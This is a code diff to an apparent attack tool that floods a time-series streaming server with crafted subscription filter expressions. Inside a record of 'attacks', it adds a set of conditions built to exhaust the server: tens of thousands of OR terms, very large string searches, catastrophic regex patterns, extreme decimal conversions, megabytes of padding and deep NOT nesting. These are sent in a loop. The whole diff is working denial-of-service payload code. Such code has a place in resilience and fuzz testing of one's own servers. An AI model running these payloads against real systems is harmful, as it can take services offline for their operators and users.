@@ -69,6 +69,42 @@ function subscribe(filterExpression = all): Uint8Array {
   return encodeCommand(Command.Subscribe, encodeSubscribe({ filterExpression }, "utf-8"));
 }
 
+function any(count: number, term: (n: number) => string): string {
+  return Array.from({ length: count }, (_, n) => term(n)).join(" OR ");
+}
+
+/** A condition that takes long in one row, and fails there. */
+function inOneRow(condition: string): string {
+  return `ID = 'PPA:0' AND (${condition} OR 1 / (LEN(ID) - LEN(ID)) = 1)`;
+}
+
+/** Conditions that take long to be read, compiled or evaluated, each time another. */
+const costlyConditions: readonly ((i: number) => string)[] = [
+  (i) => any(50_000, (n) => `LEN(PointTag) = ${(n + i) % 7 + 100}`),
+  // What nearly fits again and again.
+  (i) => {
+    const part = `${"x".repeat(8_000)}y${"x".repeat(8_000 + i % 9)}`;
+    return inOneRow(any(30, () => `CONTAINS(PointTag + '${"x".repeat(40_000)}', '${part}')`));
+  },
+  (i) =>
+    inOneRow(
+      any(20, () => `NTHINDEXOF(ID + '${"x".repeat(60_000)}', '${"x".repeat(30_000 + i % 9)}', 30000) = 0`),
+    ),
+  (i) =>
+    inOneRow(
+      any(1_000, () => `ISNUMERIC('${i % 9}' + CONVERT(LEN(ID), 'string') + '${"1".repeat(1_180)}x')`),
+    ),
+  (i) => any(100, (n) => `REGEXMATCH('${"x{0,1000}".repeat(110)}${n + i % 9}', PointTag)`),
+  (i) =>
+    any(
+      2_500,
+      (n) => `CONVERT('1e1000', 'decimal') + CONVERT('1e-1000', 'decimal') * LEN(ID) = ${n + i % 9}`,
+    ),
+  // Errors far behind, and signs before values.
+  (i) => " ".repeat(1_900_000) + any(1_000, (n) => `1 / 0 = ${n + i}`),
+  (i) => `${`${"NOT ".repeat(499)}A OR `.repeat(990)}A = ${i % 9}`,
+];
+
 function isTime(): boolean {
   return performance.now() < end;
 }
@@ -248,8 +284,8 @@ const attacks: Readonly<Record<Attack, () => Promise<void>>> = {
       await write(peer, modes);
       await awaitResponse(peer, frames, Response.Succeeded);
       for (let i = counts.bytes; isTime(); i++) {
-        const terms = Array.from({ length: 50_000 }, (_, n) => `LEN(PointTag) = ${(n + i) % 7 + 100}`);
-        await write(peer, subscribe(`FILTER ActiveMeasurements WHERE ${terms.join(" OR ")}`));
+        const condition = costlyConditions[i % costlyConditions.length]!(i);
+        await write(peer, subscribe(`FILTER ActiveMeasurements WHERE ${condition}`));
         await awaitResponse(peer, frames, Response.Failed);
       }
     }),
